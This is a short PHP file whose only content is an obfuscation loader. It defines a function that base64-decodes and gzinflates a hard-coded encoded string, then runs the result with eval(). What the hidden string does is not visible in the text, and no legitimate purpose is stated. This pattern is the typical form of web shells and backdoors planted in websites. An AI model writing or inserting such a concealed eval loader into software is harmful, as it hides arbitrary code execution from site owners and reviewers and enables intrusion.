<?php
function d($s) { return gzinflate(base64_decode($s)); }
$code = d('U0lWsFVQiXf29/f2dI1WT1aPtVYoriwuSc3VUEnWtAYA');
eval($code);
